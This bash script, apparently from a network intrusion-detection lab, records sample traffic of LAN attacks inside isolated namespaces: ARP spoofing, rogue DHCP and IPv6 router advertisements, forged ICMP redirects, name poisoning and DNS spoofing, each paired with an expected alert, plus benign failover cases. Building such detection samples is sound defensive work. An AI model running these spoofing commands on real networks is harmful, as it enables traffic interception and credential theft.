# shellcheck shell=bash disable=SC2154 # sourced by record-samples.sh after lab.sh
# Attacks on the segment itself, and the address changes that a healthy network makes.

sample_arp_spoof() {
    begin arp_spoof
    settle_all
    ip netns exec "$lab-rogue" sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
    watch
    $web http://www.example.com/
    sleep 1
    # It repeats its lie every two seconds, and puts things right when it is told to stop.
    timeout -s INT 18 ip netns exec "$lab-rogue" arpspoof -i eth0 -c own -t 10.20.0.10 -r 10.20.0.1 >/dev/null 2>&1 &
    local liar=$!
    for _ in $(seq 6); do
        sleep 2
        $web http://www.example.com/
    done
    wait "$liar" || true
    watched
    ip netns exec "$lab-rogue" sysctl -qw net.ipv4.ip_forward=0
    ip -n "$lab-client" neigh flush dev eth0
    ip -n "$lab-router" neigh flush dev site
    expect arp_spoof 10.20.0.66 10.20.0.10 \
        "02:00:00:00:20:66 claims 10.20.0.1, the gateway, which was at 02:00:00:00:20:01; and 10.20.0.10 towards the gateway"
    origin "ARP spoofing: a machine makes itself the gateway" <<'TEXT'
arpspoof -r on 10.20.0.66 (02:00:00:00:20:66) tells 10.20.0.10 that it is the gateway 10.20.0.1, and the gateway that it is
10.20.0.10, every two seconds for eighteen seconds, unasked. The workstation's web requests pass through it twice on the segment.
In the end it restores the truth.
TEXT
}

sample_rogue_dhcp() {
    begin rogue_dhcp
    start router dnsmasq --keep-in-foreground --port=0 --no-resolv --no-hosts --user=root --pid-file="$work/dhcp.pid" --interface=site --bind-interfaces --no-ping --dhcp-authoritative \
        --dhcp-range=10.20.0.100,10.20.0.120,1h --dhcp-leasefile="$work/leases" --dhcp-option=option:router,10.20.0.1 --dhcp-option=option:dns-server,203.0.113.53
    settle_all
    sleep 1
    watch
    for _ in 1 2; do on client busybox udhcpc -i eth0 -n -q -t 3 -T 1 -s /bin/true -x "hostname:laptop" >/dev/null 2>&1 || true; done
    start rogue dnsmasq --keep-in-foreground --port=0 --no-resolv --no-hosts --user=root --pid-file="$work/rogue.pid" --interface=eth0 --bind-interfaces --no-ping --dhcp-authoritative \
        --dhcp-range=10.20.0.150,10.20.0.170,1h --dhcp-leasefile="$work/rogue.leases" --dhcp-option=option:router,10.20.0.66 --dhcp-option=option:dns-server,10.20.0.66
    sleep 1
    for _ in 1 2 3; do on client busybox udhcpc -i eth0 -n -q -t 3 -T 1 -s /bin/true -x "hostname:laptop" >/dev/null 2>&1 || true; done
    on desk busybox udhcpc -i eth0 -n -q -t 3 -T 1 -s /bin/true -x "hostname:desk" >/dev/null 2>&1 || true
    watched
    rm -f "$work/leases" "$work/rogue.leases"
    expect rogue_dhcp 10.20.0.66 10.20.0.10 "a second server, which names itself as gateway and resolver; 10.20.0.1 is the first one"
    origin "A second DHCP server appears" <<'TEXT'
The workstation (02:00:00:00:20:10) gets a lease from dnsmasq on 10.20.0.1 twice. Then dnsmasq on 10.20.0.66 starts to answer,
too, with other addresses and itself as gateway and resolver; four more requests see offers of both.
TEXT
}

# ra_daemon NS INTERFACE PREFIX: radvd with that prefix, for one sample.
ra_daemon() {
    cat >"$work/radvd.$1.conf" <<CONF
interface $2 { AdvSendAdvert on; MinRtrAdvInterval 3; MaxRtrAdvInterval 4; AdvDefaultPreference ${4:-medium}; prefix $3 { AdvOnLink on; AdvAutonomous on; }; RDNSS ${3%/64}1 {}; };
CONF
    start "$1" radvd --nodaemon --config "$work/radvd.$1.conf" --pidfile "$work/radvd.$1.pid" --logmethod stderr
}

sample_rogue_ra() {
    begin rogue_ra
    settle_all
    ip netns exec "$lab-rogue" sysctl -qw net.ipv6.conf.all.forwarding=1
    watch
    ra_daemon router site fd00:20::/64
    sleep 8
    ra_daemon rogue eth0 fd00:66::/64 high
    sleep 12
    on client ping -6 -q -c 2 -i 0.2 fd00:20::1 >/dev/null
    watched
    ip netns exec "$lab-rogue" sysctl -qw net.ipv6.conf.all.forwarding=0
    expect rogue_router fe80::ff:fe00:2066 ff02::1 "02:00:00:00:20:66 advertises itself with high preference and prefix fd00:66::/64; the router is fe80::ff:fe00:2001"
    origin "A second IPv6 router advertises itself" <<'TEXT'
radvd on the router (fe80::ff:fe00:2001) advertises fd00:20::/64. Eight seconds later radvd on 02:00:00:00:20:66
(fe80::ff:fe00:2066) advertises itself as a router of high preference with another prefix and another resolver.
TEXT
}

sample_icmp_redirect() {
    begin icmp_redirect
    settle_all
    watch
    $web http://www.example.com/
    on rogue hping3 -q -n -1 -C 5 -K 1 --icmp-gw 10.20.0.66 --icmp-ipsrc 10.20.0.10 --icmp-ipdst 203.0.113.50 -a 10.20.0.1 -c 6 -i u500000 10.20.0.10 >/dev/null 2>&1 || true
    $web http://www.example.com/
    watched
    ip -n "$lab-client" route flush cache
    expect icmp_redirect 10.20.0.1 10.20.0.10 "in the gateway's name, but from 02:00:00:00:20:66; the better way would be 10.20.0.66"
    origin "ICMP redirects in the gateway's name" <<'TEXT'
hping3 on the machine with 02:00:00:00:20:66 sends six ICMP redirects (host) to 10.20.0.10 with the source address of the gateway
10.20.0.1: go through 10.20.0.66 to reach 203.0.113.50. A web request before and one after.
TEXT
}

# asks NAME: the workstation asks for a name that the resolver does not have, in the three ways of a desktop.
asks() {
    on client dig +tries=1 +timeout=1 @224.0.0.251 -p 5353 "$1.local" A >/dev/null 2>&1 || true
    on client nmap -n -e eth0 --script llmnr-resolve --script-args "llmnr-resolve.hostname=$1,llmnr-resolve.timeout=1" >/dev/null 2>&1 || true
    on client nmblookup -s /dev/null -B 10.20.0.255 "${1^^}" >/dev/null 2>&1 || true
}

sample_llmnr_poison() {
    begin llmnr_poison
    local name
    settle_all
    start rogue python3 "$here/scripts/samples/frames.py" poison --interface eth0 --answer 10.20.0.66 --seconds 60
    sleep 1
    watch
    for name in fileservr wpad intranett prnt-3 qzxkvw sharepont; do asks "$name"; done
    watched
    expect name_poisoning 10.20.0.66 10.20.0.10 "answers for six names that nobody has, by LLMNR, NetBIOS and mDNS"
    origin "Name poisoning: one machine is everybody" <<'TEXT'
The workstation 10.20.0.10 asks for six names that do not exist (typing mistakes, wpad, one random) by mDNS, LLMNR and NetBIOS.
10.20.0.66 says each time that it is the one (scripts/samples/frames.py poison, which does what Responder does).
TEXT
}

sample_dns_spoof() {
    begin dns_spoof
    local liar name
    settle_all
    ip netns exec "$lab-rogue" sysctl -qw net.ipv4.ip_forward=1 net.ipv4.conf.all.send_redirects=0 net.ipv4.conf.eth0.send_redirects=0
    printf '10.20.0.66\twww.example.com\n10.20.0.66\tshop.example.org\n' >"$work/lies"
    watch
    timeout -s INT 12 ip netns exec "$lab-rogue" arpspoof -i eth0 -c own -t 10.20.0.10 10.20.0.1 >/dev/null 2>&1 &
    liar=$!
    timeout -s INT 12 ip netns exec "$lab-rogue" dnsspoof -i eth0 -f "$work/lies" >/dev/null 2>&1 &
    sleep 3
    for name in www.example.com shop.example.org www.example.com; do
        on client dig +noedns +tries=1 +timeout=2 "$name" A >/dev/null || true
        sleep 1
    done
    wait "$liar" || true
    watched
    ip netns exec "$lab-rogue" sysctl -qw net.ipv4.ip_forward=0
    ip -n "$lab-client" neigh flush dev eth0
    expect dns_spoof 203.0.113.53 10.20.0.10 "two different answers to one question; the forged ones come from 02:00:00:00:20:66 and say 10.20.0.66"
    expect arp_spoof 10.20.0.66 10.20.0.10 "02:00:00:00:20:66 claims the gateway 10.20.0.1"
    origin "Forged DNS answers" <<'TEXT'
arpspoof on 10.20.0.66 makes itself the gateway of 10.20.0.10, and dnsspoof answers the questions that pass: www.example.com and
shop.example.org are 10.20.0.66, in the name of the resolver 203.0.113.53. The real answer is faster here; the forged one, with
the same transaction, follows (twice, because dnsspoof sees the question once more when it is passed on).
TEXT
}

sample_address_conflict() {
    begin address_conflict
    settle_all
    watch
    on client ping -q -c 1 10.20.0.20 >/dev/null
    ip -n "$lab-rogue" addr add 10.20.0.20/32 dev eth0
    for _ in 1 2 3 4; do
        ip -n "$lab-client" neigh flush dev eth0
        on client ping -q -c 1 -W 1 10.20.0.20 >/dev/null || true
        sleep 0.5
    done
    watched
    ip -n "$lab-rogue" addr del 10.20.0.20/32 dev eth0
    ip -n "$lab-client" neigh flush dev eth0
    expect address_conflict 10.20.0.20 10.20.0.10 "02:00:00:00:20:20 and 02:00:00:00:20:66 both answer for 10.20.0.20 when asked (arp_spoof is not wrong)"
    origin "Two machines with one address" <<'TEXT'
The machine with 02:00:00:00:20:66 has been given 10.20.0.20, which is the address of another (02:00:00:00:20:20). 10.20.0.10 asks
who has it four times and hears both.
TEXT
}

# --- twins --------------------------------------------------------------------------------------------------

sample_twin_vrrp() {
    begin twin_vrrp
    local ns interface
    for ns in router:site:150 desk:eth0:100; do
        IFS=: read -r ns interface priority <<<"$ns"
        cat >"$work/keepalived.$ns.conf" <<CONF
global_defs { vrrp_garp_master_repeat 2
 vrrp_version 3 }
vrrp_instance gateway {
  state BACKUP
  interface $interface
  virtual_router_id 5
  priority $priority
  advert_int 1
  use_vmac vrrp5
  virtual_ipaddress { 10.20.0.254/24 }
}
CONF
    done
    settle_all
    watch
    start router keepalived --dont-fork --vrrp --use-file="$work/keepalived.router.conf" --pid="$work/ka1" --vrrp_pid="$work/ka1v" --log-console
    local master=$!
    start desk keepalived --dont-fork --vrrp --use-file="$work/keepalived.desk.conf" --pid="$work/ka2" --vrrp_pid="$work/ka2v" --log-console
    sleep 6
    on client ping -q -c 3 -i 0.3 10.20.0.254 >/dev/null || true
    kill "$master"
    sleep 6
    on client ping -q -c 3 -i 0.3 10.20.0.254 >/dev/null || true
    watched
    quiet
    origin "VRRP: the gateway's address moves to the other router, as it should" <<'TEXT'
keepalived on 10.20.0.1 and 10.20.0.20 share 10.20.0.254 with the virtual MAC 00:00:5e:00:01:05. The master is stopped after six
seconds, the backup takes over and announces itself by gratuitous ARP. 10.20.0.10 pings the address before and after.
TEXT
}

sample_twin_restart() {
    begin twin_restart
    start router dnsmasq --keep-in-foreground --port=0 --no-resolv --no-hosts --user=root --pid-file="$work/dhcp.pid" --interface=site --bind-interfaces --no-ping \
        --dhcp-range=10.20.0.100,10.20.0.120,1h --dhcp-host=02:00:00:00:20:20,10.20.0.20 --dhcp-leasefile="$work/leases" --dhcp-option=option:router,10.20.0.1
    settle_all
    watch
    on client ping -q -c 2 -i 0.2 10.20.0.20 >/dev/null
    ip -n "$lab-desk" link set eth0 down
    sleep 1
    ip -n "$lab-desk" link set eth0 up
    ip -n "$lab-desk" addr add fd00:20::20/64 dev eth0 nodad
    ip -n "$lab-desk" route add default via 10.20.0.1
    ip -n "$lab-desk" route add default via fd00:20::1
    on desk busybox udhcpc -i eth0 -n -q -t 3 -T 1 -s /bin/true -x "hostname:desk" >/dev/null 2>&1 || true
    on desk busybox arping -q -D -c 2 -w 3 -I eth0 10.20.0.20 >/dev/null || true
    on desk busybox arping -q -U -c 3 -w 4 -I eth0 10.20.0.20 >/dev/null || true
    on client ping -q -c 2 -i 0.2 10.20.0.20 >/dev/null
    watched
    quiet
    origin "A host restarts and announces itself" <<'TEXT'
10.20.0.20 goes away and comes back: DHCP gives it the same address, it probes that nobody else has it, and says three times
unasked that it is there (gratuitous ARP). Its MAC is the same all the time. 10.20.0.10 pings it before and after.
TEXT
}

all+=(arp_spoof rogue_dhcp rogue_ra icmp_redirect llmnr_poison dns_spoof address_conflict twin_vrrp twin_restart)
